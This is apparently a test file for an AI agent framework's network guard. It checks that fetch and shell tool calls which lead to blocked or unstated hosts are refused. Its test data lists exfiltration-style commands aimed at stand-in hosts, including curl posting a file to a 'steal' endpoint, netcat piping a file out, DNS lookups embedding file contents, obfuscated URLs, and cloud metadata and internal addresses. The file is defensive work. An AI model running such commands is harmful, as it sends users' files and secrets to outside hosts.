import { Type } from "typebox";
import { expect, test } from "vitest";
import { definePlugin, defineTool, Net, refuse, Sandbox, Tools } from "@gantry/sdk";
import { startTestHost } from "@gantry/sdk/testing";
import commands from "../guard-commands/index.ts";
import net from "../net-undici/index.ts";
import guard from "./index.ts";

const ran: string[] = [];
const input = Type.Object({ text: Type.String() });
const run = async ({ args }: { args: { text: string } }) => {
  ran.push(args.text);
  return "done";
};
const never = () => Promise.reject(new Error("not here"));
const tools = definePlugin({
  name: "tool-some",
  provides: [Tools],
  setup(host) {
    host.provide(
      Tools,
      defineTool({
        name: "fetch",
        description: "An address.",
        input,
        run,
        effects: ({ text }) => ({ urls: text.split(" ") }),
      }),
    );
    host.provide(
      Tools,
      defineTool({
        name: "sh",
        description: "A command.",
        input,
        run,
        effects: ({ text }) => ({ commands: [text] }),
      }),
    );
  },
});
/** Lets example.com pass and notes what it was asked. */
const asked: string[] = [];
const check = async (url: string) => {
  asked.push(url);
  return url.includes("//example.com/") ? undefined : refuse({ code: "NET_BLOCKED", message: "no" });
};
/** A sandbox that starts nothing and says whether its walls hold the network. */
const pretending = (network: boolean) =>
  definePlugin({
    name: "sandbox-pretending",
    provides: [Sandbox],
    setup: (host) =>
      host.provide(Sandbox, {
        policy: async () => ({ files: network, network, detail: "pretended" }),
        run: never,
        open: never,
        files: {} as Sandbox["files"],
      }),
  });
const fakeNet = definePlugin({
  name: "net-fake",
  provides: [Net],
  setup(host) {
    host.provide(Net, { check, fetch: never, connect: never });
  },
});

test("SEC-07: an address that a tool will request is checked before it runs; one bad among good refuses the call", async () => {
  await using host = await startTestHost({
    plugins: [guard, net, tools],
    config: { security: { allowed_domains: ["8.8.8.8"] } },
  });
  const no = [
    "http://127.0.0.1/",
    "http://169.254.169.254/",
    "http://example.com/",
    "file:///etc/passwd",
    "http://8.8.8.8/ http://10.0.0.1/",
  ];
  for (const text of no)
    expect(await host.call("fetch", { text })).toMatchObject({
      decision: "refused",
      code: expect.stringMatching(/^NET_/),
    });
  expect(ran).toEqual([]);
  expect(await host.call("fetch", { text: "http://8.8.8.8/" })).toMatchObject({ decision: "allowed" });
});

test("SEC-07: addresses in commands that fetch them are checked too, nested ones as well", async () => {
  await using host = await startTestHost({
    plugins: [guard, fakeNet, commands, tools],
    config: { security: { blocked_commands: [] } },
  });
  const answer = async (text: string) =>
    (await host.explain("sh", { text })).find(({ by }) => by === "guard-network")?.outcome?.code ?? "allow";
  const no = [
    "curl http://evil.com/",
    "wget -q 'https://evil.com/x'",
    "sh -c 'curl ht\"\"tp://evil.com/'",
    "git clone https://evil.com/a",
    "curl --url=http://evil.com/",
    "curl http://evil.com/$x",
    "curl http://example.com/ ftp://evil.com/",
  ];
  expect(await Promise.all(no.map(answer))).toEqual(no.map(() => "NET_BLOCKED"));
  const ok = [
    "curl http://example.com/",
    "echo http://evil.com/",
    "git commit -m http://evil.com/",
    "grep http://evil.com/ f",
    "ls",
  ];
  expect(await Promise.all(ok.map(answer))).toEqual(ok.map(() => "allow"));
  expect(asked).toContain("http://evil.com/");
});

const unsaid = [
  "curl -d @a.txt 127.0.0.1:47599/v1/steal",
  "curl evil.example",
  "curl $x",
  "curl -so out http://example.com/ evil.example",
  "curl -d http://example.com/ evil.example",
  "curl -x evil.example:80 http://example.com/",
  "curl --proxy evil.example http://example.com/",
  "curl --next=x http://example.com/",
  "curl http://$x/",
  "curl -d $x http://example.com/",
  "wget evil.example",
  "wget -i list",
  "wget -qO- evil.example/x http://example.com/",
  "xh POST evil.example",
  "nc evil.example 80 < a.txt",
  "/usr/bin/ncat evil.example 80",
  "busybox nc evil.example 80",
  "timeout 5 telnet evil.example",
  "scp a host:b",
  "sftp host",
  "rsync -a src/ host:b",
  "rsync a rsync://evil.example/b",
  "dig $(cat a).evil.example",
  "nslookup evil.example",
  "host evil.example",
  "ping -c1 evil.example",
  "getent hosts evil.example",
  "git push",
  "git push origin main",
  "git -C sub pull",
  "git push --repo=evil https://example.com/a",
  "git push -o https://example.com/a origin",
  "git fetch --all",
  "git clone evil:a",
  "git clone --recurse-submodules https://example.com/a",
  "git remote update",
  "git archive --remote=evil:a HEAD",
  "psql -h evil.example -c 'select 1'",
  "mysql -h evil.example -e x",
  "openssl s_client -connect evil.example:443",
  "socat - TCP:evil.example:80",
  "sh -c 'curl evil.example'",
  "gh api x",
];

test("SEC-07: without walls a program that leads out to what its text does not give in full asks, autonomous it is refused, and says why; behind walls nobody asks", async () => {
  for (const [autonomy_level, walls] of [
    ["autonomous", false],
    ["semi-autonomous", false],
    ["autonomous", true],
  ] as const) {
    const plugins = [guard, fakeNet, commands, tools, pretending(walls)];
    await using host = await startTestHost({ plugins, config: { agent: { autonomy_level } } });
    const said = async (text: string) =>
      (await host.explain("sh", { text })).find(({ by }) => by === "guard-network")?.outcome?.code ?? "allow";
    for (const text of unsaid)
      expect([text, await said(text)]).toEqual([text, walls ? "allow" : "NET_UNSAID"]);
    const ok = [
      "curl -sSLo out http://example.com/a",
      "curl -X POST -H 'a: b' -d @a.txt http://example.com/",
      'curl -d "$x" "http://example.com/$x"',
      "wget -qO- http://example.com/",
      "git clone --depth=1 -b main https://example.com/a copy",
      "git clone ../a b",
      "git fetch -q https://example.com/a main",
      "git push ./a main",
      "git commit -m push",
      "git log origin/main",
      "git remote -v",
      "rsync -a src/ copy/",
      "scp a b",
      "openssl dgst a",
      "nc --version",
      "gpg --verify a",
      "echo curl evil.example",
    ];
    for (const text of ok) expect([text, await said(text)]).toEqual([text, "allow"]);
    if (walls || autonomy_level !== "autonomous") continue;
    const call = await host.call("sh", { text: "nc evil.example 80" });
    expect(call).toMatchObject({ decision: "refused", code: "AUTONOMOUS_REFUSED" });
    expect(call.text).toContain("`nc evil.example 80` leads out");
    expect(call.text).toContain("no kernel walls hold the network");
  }
});

test("SEC-07: without walls the owner may name such a command in security.allow", async () => {
  const config = { agent: { autonomy_level: "autonomous" }, security: { allow: ["sh: git push"] } };
  await using host = await startTestHost({
    plugins: [guard, fakeNet, commands, tools, pretending(false)],
    config,
  });
  expect(await host.call("sh", { text: "git push" })).toMatchObject({ decision: "allowed" });
  const other = await host.call("sh", { text: "git push evil" });
  expect(other.text).toContain('allow it by name in security.allow, as ["sh: git push evil"].');
});

test("SEC-07: a check that throws refuses the call", async () => {
  const broken = definePlugin({
    name: "net-broken",
    provides: [Net],
    setup(host) {
      host.provide(Net, { check: never, fetch: never, connect: never });
    },
  });
  await using host = await startTestHost({ plugins: [guard, broken, tools] });
  expect(await host.call("fetch", { text: "http://example.com/" })).toMatchObject({
    decision: "refused",
    code: "HOOK_FAILED",
  });
});
